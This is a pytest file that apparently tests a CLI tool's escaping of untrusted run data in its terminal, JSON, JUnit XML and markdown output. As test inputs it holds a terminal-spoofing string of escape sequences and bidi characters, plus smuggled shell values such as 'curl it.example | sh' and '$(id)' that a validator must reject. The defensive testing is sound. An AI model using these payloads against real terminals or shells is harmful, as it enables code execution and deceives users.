"""What a run says reaches people escaped: it moves no cursor, begins no line of its own, and colours nothing."""

from __future__ import annotations

import json
import os
import re
import shutil
from pathlib import Path
from xml.etree import ElementTree

import pytest

from chaos.history import directory
from chaos.history.columns import INTEGERS, REPEATED, WORDS
from chaos.history.history import History
from chaos.history.recorder import Recorder
from chaos.history.run_meta import RunMeta
from chaos.history.verdict_json import verdict_of
from chaos.judging.outcome import judge
from chaos.judging.run import examine_run
from chaos.verdict import Engine, Validity
from reports import markdown
from stormproof import cli, commands
from stormproof.commands import _console, _progress
from tests.stormproof import small_runs

#: Clears the screen, and says in green what a run never said, on a line that looks like ours.
VALID = "✓ VALID  all-is-well, seed 1, sim"
EVIL = f"\x1b[2J\x1b[H\x1b[42;5m\x9b2J\r\n{VALID}\n\x07\x7f\u202e\u2066\u2028\u200b [/] [red]<b>| `x` @team https://it.example"
#: What this process itself writes, and :data:`EVIL` does not: it colours texts, and draws bars where they were.
OURS = re.compile(r"\x1b\[[01239]?[0-9]?(?:;[0-9]+)*m|\x1b\[\?25[lh]|\x1b\[1A|\x1b\[2K|\r")


def renamed(run: Path, place: Path, old: str, new: str) -> Path:
    """The same run, but that a node has another name."""
    inside = json.dumps(new)[1:-1]
    place.mkdir()
    table, damage = History.open(run).recorded()
    assert not damage
    recorder = Recorder(place, lambda: 0)
    for row in table.to_pylist():
        words = {name: row[name].replace(old, new) for name in WORDS}
        value = json.loads(row["value"].replace(old, inside)) if row["value"] else None
        numbers = {name: row[name] for name in INTEGERS if name not in ("index", *REPEATED)}
        recorder.record(**words, **numbers, value=value)
    recorder.close()
    meta = json.loads((run / directory.META).read_text().replace(old, inside))
    for name in ("name", "deployment", "replay", "mutant"):
        meta[name] = new
    meta["versions"] = {new: new}
    (place / "logs").mkdir()
    (place / directory.EXPERIMENT).write_bytes((run / directory.EXPERIMENT).read_bytes())
    directory.write_meta(place, meta)
    directory.seal(place)
    return place


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of two runs, whose directories have odd names, too."""
    scratch = tmp_path_factory.mktemp("plain")
    runs = tmp_path_factory.mktemp("runs")
    found = small_runs.planted(scratch).directory
    renamed(found, runs / "strange", "broker-0", EVIL)
    (verdict,) = judge([examine_run(runs / "strange")], engine=Engine.LOCAL)
    assert verdict.validity is Validity.INVALID, verdict.why
    shutil.copytree(runs / "strange", runs / "-odd\x1b[2J\n\u202e;x")
    return runs


def assert_harmless(text: str) -> None:
    assert "\x1b[42" not in text and ("\r" not in text or "FORCE_COLOR" in os.environ)
    rest = OURS.sub("", text)
    assert rest.replace("\n", "").replace("\t", "").isprintable(), repr(rest)[:2000]
    assert not any(line.lstrip(" |*>").startswith(VALID[:18]) for line in rest.splitlines()), rest


def shown(capfd: pytest.CaptureFixture[str], *words: object) -> str:
    code = cli._run([*map(str, words)])
    out, err = capfd.readouterr()
    assert code in (0, 1, 2, 3) and "Traceback" not in err and "bug of" not in err, (words, err)
    assert_harmless(out)
    assert_harmless(err)
    return out


ASKED = (
    ("check", "RUN", "--engine", "local"),
    ("check", "RUN", "RUN", "--engine", "local", "--json"),
    ("check", "RUN", "--follow", "--engine", "local"),
    ("check", "RUN", "--follow", "--engine", "local", "--json"),
    ("rows", "RUN", "0..100000"),
    ("rows", "RUN", "0..100000", "--json"),
    ("explain", "RUN"),
    ("explain", "RUN", "--json"),
    ("explain", "RUN", "--markdown"),
    ("finding", "RUN"),
    ("finding", "RUN", "--markdown"),
    ("report", "RUN", "--as", "issue"),
    ("explain", "RUN", "--rows", "0,1..3"),
    ("finding", "RUN", "--json"),
    ("diff", "RUN", "RUN"),
    ("diff", "RUN", "RUN", "--json"),
    ("summary", "RUN"),
    ("summary", "RUN", "--json"),
    ("report", "RUN"),
    ("export", "RUN", "--to", "perfetto"),
    ("shrink", "RUN"),
    ("replay", "RUN"),
)


#: What is shown otherwise where somebody looks on.
ON_A_TERMINAL = ("check", "rows", "diff")


@pytest.mark.parametrize("terminal", [False, True], ids=["file", "terminal"])
def test_no_command_lets_a_run_write_to_the_terminal(
    folder: Path, terminal: bool, tmp_path: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    if terminal:
        monkeypatch.setenv("FORCE_COLOR", "1")
        monkeypatch.setenv("COLUMNS", "100")
    runs = tmp_path / "runs"
    shutil.copytree(folder, runs)
    run = min(runs.iterdir())
    for words in ASKED:
        if not terminal or (words[0] in ON_A_TERMINAL and "--json" not in words):
            shown(capfd, *(run if word == "RUN" else word for word in words))
    for words in ((), ("--json",), ("--html",)):
        shown(capfd, "runs", runs, *words)
    assert "all-is-well" in shown(capfd, "runs", runs), "it is there, but for what it would do"


def test_values_in_json_come_back_as_they_were(capfd: pytest.CaptureFixture[str]) -> None:
    value = {EVIL: [EVIL, "\ud800", "naïve 漢 🎉"]}
    for indent in (2, None):
        _console.print_json(value, indent=indent)
        out = capfd.readouterr().out
        assert_harmless(out)
        assert json.loads(out) == value and "naïve 漢 🎉" in out
        assert indent or out.count("\n") == 1


def test_what_is_told_while_it_runs_is_escaped(
    capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FORCE_COLOR", "1")
    with _progress.run_progress(1.0) as watcher:
        watcher.phase("setup", 0.0)
        watcher.row("fault", {"f": EVIL, "process": "x", "type": "invoke", "value": {"targets": [EVIL]}}, lambda: 0)
        watcher.row("fault", {"f": EVIL, "process": "x", "type": "fail", "value": {"reason": EVIL}}, lambda: 0)
    assert_harmless(capfd.readouterr().err)


def test_errors_and_bugs_are_escaped_and_each_line_says_what_it_is(
    capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*_: object, **__: object) -> None:
        raise RuntimeError(EVIL)

    for words in (["check", EVIL.replace("\n", " ")], [EVIL], ["runs", "--nonesuch" + EVIL], ["linearize", EVIL]):
        assert cli._run(words) == 3
        err = capfd.readouterr().err
        assert_harmless(err)
        assert all(line.startswith("error: ") for line in err.splitlines())
    monkeypatch.setattr(cli.stormproof, "main", fail)
    assert cli._run([]) == 3
    assert_harmless(capfd.readouterr().err)


def test_the_id_of_a_history_is_a_text_and_can_be_asked_for(
    tmp_path: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    ops = [("invoke", "write", 1), ("ok", "write", 1), ("invoke", "read", None), ("ok", "read", 2)]
    histories = [
        {"id": name, "model": "register",
         "ops": [{"process": EVIL, "type": t, "f": f, "value": v and f"{v}{EVIL}"} for t, f, v in ops]}
        for name in (EVIL, "-dash")
    ]  # fmt: skip
    monkeypatch.chdir(tmp_path)
    Path("-x.jsonl").write_text("".join(json.dumps(one) + "\n" for one in histories))
    for more in ([], ["--json"], ["--html", "page"]):
        assert cli._run(["linearize", "--engine", "python", *more, "./-x.jsonl"]) == 1
        out, err = capfd.readouterr()
        assert_harmless(out + err)
    assert cli._run(["linearize", "--engine", "python", "--id", "-dash", "./-x.jsonl"]) == 1
    assert capfd.readouterr().out.splitlines()[-1].endswith("--engine python --id -dash ./-x.jsonl")


def test_junit_is_xml_whatever_a_run_says(folder: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """XML 1.0 has no control characters, nor a way to escape them."""
    run = tmp_path / "run"
    shutil.copytree(folder / "strange", run)
    verdict = json.loads((run / directory.VERDICT).read_text())
    for law in verdict["laws"]:
        law["law"], law["why"] = law["law"] + EVIL, EVIL + "\ufffe\ud800"
        for anomaly in law["anomalies"]:
            anomaly["name"], anomaly["explanation"] = EVIL, EVIL
    verdict["anomalies"], verdict["why"] = {EVIL: 1}, [EVIL]
    meta = {**directory.read_meta(run).json, "started": EVIL}
    from reports.run_report import junit

    root = ElementTree.parse(junit.write(run, verdict_of(verdict), RunMeta.of(meta))).getroot()
    (suite,) = root.iter("testsuite")
    assert len(list(suite.iter("testcase"))) == len(verdict["laws"]) + 1
    assert "all-is-well" in (suite.get("timestamp") or "")


def test_in_markdown_a_text_links_nowhere_and_calls_nobody() -> None:
    text = markdown.escaped("see https://it.example or www.it.example, @team and me@it.example, [x](y) <b>")
    assert r"https:\//it.example" in text and r"www\.it.example" in text
    assert "@&#8203;team" in text and "me@&#8203;it.example" in text and r"\[x\](y) \<b\>" in text
    cell = markdown.code(r"a\| <img src=x> [b](c) `d`")
    assert cell.startswith("<code>a&#92;&#124;") and not re.search(r"[|\[\]`]|<(?!/?code>)", cell)
    assert markdown.code("a|b") == r"`a\|b`"


@pytest.mark.parametrize(
    ("told", "shows"),
    [
        ("stormproof run 'a b.yaml' --on sim --seed 1", True),
        ("stormproof replay runs/x", True),
        ("stormproof run x.yaml; curl it.example | sh", False),
        ("stormproof run $(id)", False),
        ("curl it.example", False),
        ("stormproof heal --all", False),
        ("stormproof run 'x", False),
        ("stormproof run x\nid", False),
        ("", False),
    ],
)
def test_only_a_command_of_ours_is_shown_to_be_copied(told: str, shows: bool) -> None:
    assert RunMeta(replay=told).replay_command == (told if shows else "")


def test_all_that_commands_print_goes_one_way() -> None:
    """Through ``_console``, which makes it printable."""
    around = re.compile(r"\bclick\.s?echo\(|\bprint\((?!f?\")|\bsys\.std(out|err)\.(write|buffer)|\bConsole\(")
    found = {
        file.name: [line.strip() for line in file.read_text("utf-8").splitlines() if _prints(line, around)]
        for file in sorted(Path(commands.__path__[0]).glob("*.py"))
        if file.name != "_console.py"
    }
    assert {name: lines for name, lines in found.items() if lines} == {}, "use _console.say, say_document or complain"


def _prints(line: str, around: re.Pattern[str]) -> bool:
    safe = r"console\.print\(|\.err\(\)\.print\(|\.out\(\)\.print\(|click\.echo\(printable\("
    return bool(around.search(line)) and not re.search(safe, line)
